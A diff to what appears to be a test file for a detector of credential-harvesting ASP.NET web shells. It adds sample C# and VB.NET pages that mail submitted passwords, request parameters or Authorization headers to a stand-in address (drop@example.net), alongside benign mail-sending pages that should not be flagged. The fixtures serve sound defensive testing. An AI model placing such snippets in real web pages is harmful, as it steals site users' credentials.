@@ -91,6 +91,48 @@ SHELLS = [
         vb_page('System.IO.File.AppendAllText("c:\\temp\\a.txt", Request.Form("user") & ":" & Request.Form("passwd"))'),
         ["form field 'passwd'", SENT],
     ),
+    (  # a message built first, its recipient added, then sent
+        "built-message.aspx",
+        cs_page(
+            "var m = new System.Net.Mail.MailMessage();\n"
+            'm.From = new System.Net.Mail.MailAddress("owa@contoso.com");\n'
+            'm.To.Add("drop@example.net");\n'
+            'm.Body = Request.Form["username"] + ":" + Request.Form["password"];\n'
+            'var c = new System.Net.Mail.SmtpClient("smtp.example.net");\n'
+            "c.Send(m);"
+        ),
+        ["form field 'password'", "SmtpClient.Send", SENT],
+    ),
+    (
+        "built-message.vb.aspx",
+        vb_page(
+            "Dim m As New System.Net.Mail.MailMessage()\n"
+            'm.To.Add(New System.Net.Mail.MailAddress("drop@example.net", "x"))\n'
+            'm.Body = "p=" & Request.Form("passwd")\n'
+            'Dim c As New System.Net.Mail.SmtpClient("mail")\n'
+            "c.Send(m)"
+        ),
+        ["form field 'passwd'", "SmtpClient.Send"],
+    ),
+    (  # System.Web.Mail's message names its recipients in a string
+        "web-mail.aspx",
+        cs_page(
+            "var m = new System.Web.Mail.MailMessage();\n"
+            'm.To = "drop@example.net";\n'
+            'm.Body = Request["pwd"];\n'
+            "System.Web.Mail.SmtpMail.Send(m);"
+        ),
+        ["request parameter 'pwd'", "SmtpMail.Send"],
+    ),
+    (
+        "send-async.aspx",
+        cs_page(
+            'var m = new System.Net.Mail.MailMessage("a@contoso.com", "drop@example.net");\n'
+            'm.Subject = Request.Headers["Authorization"];\n'
+            "new System.Net.Mail.SmtpClient().SendAsync(m, null);"
+        ),
+        ["header 'Authorization'", "SmtpClient.SendAsync"],
+    ),
 ]
 
 
@@ -130,6 +172,27 @@ BENIGN = [
         "  new System.Net.Mail.SmtpClient().Send(m);\n"
         '}\n</script>\n<form runat="server"><asp:TextBox id="txtEmail" runat="server"/>'
         '<asp:TextBox id="txtPassword" TextMode="Password" runat="server"/></form>',
+    ),
+    (  # the user's own address among the recipients: a confirmation copy, not a trap
+        "register-copy.aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Register(object s, EventArgs e) {\n"
+        "  var m = new System.Net.Mail.MailMessage();\n"
+        '  m.To.Add("admin@contoso.com");\n'
+        "  m.To.Add(txtEmail.Text);\n"
+        '  m.Body = "Your password: " + txtPassword.Text;\n'
+        "  new System.Net.Mail.SmtpClient().Send(m);\n"
+        '}\n</script>\n<form runat="server"><asp:TextBox id="txtEmail" runat="server"/>'
+        '<asp:TextBox id="txtPassword" TextMode="Password" runat="server"/></form>',
+    ),
+    (  # a recipient the code does not fix (read from the site's settings)
+        "reset.aspx",
+        cs_page(
+            "var m = new System.Net.Mail.MailMessage();\n"
+            'm.To.Add(ConfigurationManager.AppSettings["admin"]);\n'
+            'm.Body = "New password: " + Request.Form["newpassword"];\n'
+            "new System.Net.Mail.SmtpClient().Send(m);"
+        ),
     ),
     (
         "Service.cs",
